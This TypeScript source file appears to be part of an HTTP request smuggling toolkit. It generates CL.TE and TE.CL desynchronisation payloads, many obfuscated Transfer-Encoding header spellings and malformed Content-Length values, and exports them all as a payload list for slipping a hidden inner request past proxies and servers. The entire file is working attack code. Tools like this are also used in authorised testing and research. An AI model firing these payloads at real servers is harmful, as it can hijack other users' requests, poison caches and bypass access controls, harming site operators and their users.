import { type Attack, chunk, head, LAST_CHUNK, type Payload } from './payload.ts';

const METHODS = ['GET', 'HEAD', 'DELETE', 'OPTIONS', 'POST', 'PUT', 'PATCH'];
const CHUNKED = 'Transfer-Encoding: chunked';
const lengthOf = (content: string) => `Content-Length: ${content.length}`;

/** Content where few send any: a forwarder that drops how it is framed sends it on as a second request. */
const withContent: Payload[] = METHODS.flatMap((method) => [
  {
    name: `chunked ${method}`,
    bytes: (attack) => head(attack, [CHUNKED], { method }) + chunk(attack.inner) + LAST_CHUNK,
  },
  {
    name: `${method} with a length`,
    bytes: (attack) => head(attack, [lengthOf(attack.inner)], { method }) + attack.inner,
  },
]);

/** The length covers all; whoever reads chunks instead finds the inner request after them. */
const clTe = (attack: Attack, encoding: string, method?: string): string => {
  const content = LAST_CHUNK + attack.inner;
  return head(attack, [lengthOf(content), encoding], method ? { method } : {}) + content;
};

/** The chunks cover all; whoever reads the length instead finds the inner request after the first line. */
const teCl = (attack: Attack, encoding: string, method?: string): string => {
  const content = chunk(attack.inner);
  const length = `Content-Length: ${content.indexOf('\n') + 1}`;
  return head(attack, [length, encoding], method ? { method } : {}) + content + LAST_CHUNK;
};

const bothFramings: Payload[] = ['GET', 'POST'].flatMap((method) => [
  { name: `CL.TE ${method}`, bytes: (attack) => clTe(attack, CHUNKED, method) },
  { name: `TE.CL ${method}`, bytes: (attack) => teCl(attack, CHUNKED, method) },
]);

/** Spellings that one reader takes for `chunked` and another does not. */
const ENCODINGS: Record<string, string> = {
  'in capitals': 'Transfer-Encoding: CHUNKED',
  'unknown, xchunked': 'Transfer-Encoding: xchunked',
  'unknown, chunke': 'Transfer-Encoding: chunke',
  quoted: 'Transfer-Encoding: "chunked"',
  'with a parameter': 'Transfer-Encoding: chunked;q=1',
  'after identity': 'Transfer-Encoding: identity, chunked',
  'before identity': 'Transfer-Encoding: chunked, identity',
  'after gzip': 'Transfer-Encoding: gzip, chunked',
  'before gzip': 'Transfer-Encoding: chunked, gzip',
  'twice in one': 'Transfer-Encoding: chunked, chunked',
  'twice in two': 'Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked',
  'then identity': 'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
  'then nonsense': 'Transfer-Encoding: chunked\r\nTransfer-Encoding: x',
  'after nonsense': 'Transfer-Encoding: x\r\nTransfer-Encoding: chunked',
  'with a leading comma': 'Transfer-Encoding: ,chunked',
  empty: 'Transfer-Encoding:',
  'a space before the colon': 'Transfer-Encoding : chunked',
  'a tab before the colon': 'Transfer-Encoding\t: chunked',
  'a tab after the colon': 'Transfer-Encoding:\tchunked',
  'no space after the colon': 'Transfer-Encoding:chunked',
  'a space at the end': 'Transfer-Encoding: chunked ',
  'a vertical tab before': 'Transfer-Encoding: \x0bchunked',
  'a form feed after': 'Transfer-Encoding: chunked\x0c',
  'a NUL after': 'Transfer-Encoding: chunked\0',
  'a byte beyond ASCII': 'Transfer-Encoding: chun\xffked',
  'a carriage return inside': 'Transfer-Encoding: \rchunked',
  'folded before its value': 'Transfer-Encoding:\r\n chunked',
  'folded by a tab': 'Transfer-Encoding:\r\n\tchunked',
  'folded in another header': 'X-Other: a\r\n Transfer-Encoding: chunked',
  'a header that starts with a space': ' Transfer-Encoding: chunked',
  'after a bare LF': 'X-Other: a\nTransfer-Encoding: chunked',
  'before a bare LF': 'Transfer-Encoding: chunked\nX-Other: a',
  'after a bare CR': 'X-Other: a\rTransfer-Encoding: chunked',
  'handed on by Connection': 'Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked',
};

const oddEncodings: Payload[] = Object.entries(ENCODINGS).flatMap(([name, encoding]) => [
  { name: `CL.TE, encoding ${name}`, bytes: (attack) => clTe(attack, encoding) },
  { name: `TE.CL, encoding ${name}`, bytes: (attack) => teCl(attack, encoding) },
]);

/** Lengths that two readers may take for different ones; `n` is the inner request's. */
const LENGTHS: Record<string, (n: number) => string> = {
  'none, then its own': (n) => `Content-Length: 0\r\nContent-Length: ${n}`,
  'its own, then none': (n) => `Content-Length: ${n}\r\nContent-Length: 0`,
  'two in one header': (n) => `Content-Length: 0, ${n}`,
  'the same twice': (n) => `Content-Length: ${n}\r\nContent-Length: ${n}`,
  'the same in one header': (n) => `Content-Length: ${n}, ${n}`,
  'with a plus': (n) => `Content-Length: +${n}`,
  'with a minus': (n) => `Content-Length: -${n}`,
  hexadecimal: (n) => `Content-Length: 0x${n.toString(16)}`,
  'with a point': (n) => `Content-Length: ${n}.0`,
  'with an exponent': (n) => `Content-Length: ${n}e0`,
  'with zeros before': (n) => `Content-Length: 000${n}`,
  'with an underscore': (n) => `Content-Length: ${[...String(n)].join('_')}`,
  'more than 64 bits': (n) => `Content-Length: ${2n ** 64n + BigInt(n)}`,
  'a space inside': (n) => `Content-Length: 0 ${n}`,
  'a space before the colon': (n) => `Content-Length : ${n}`,
  folded: (n) => `Content-Length:\r\n ${n}`,
  'folded in another header': (n) => `X-Other: a\r\n Content-Length: ${n}`,
  'after a bare LF': (n) => `X-Other: a\nContent-Length: ${n}`,
  'after a bare CR': (n) => `X-Other: a\rContent-Length: ${n}`,
};

const oddLengths: Payload[] = Object.entries(LENGTHS).flatMap(([name, length]) =>
  ['GET', 'POST'].map((method) => ({
    name: `${method}, length ${name}`,
    bytes: (attack: Attack) => head(attack, [length(attack.inner.length)], { method }) + attack.inner,
  })),
);

export const lengthPayloads = [...withContent, ...bothFramings, ...oddEncodings, ...oddLengths];
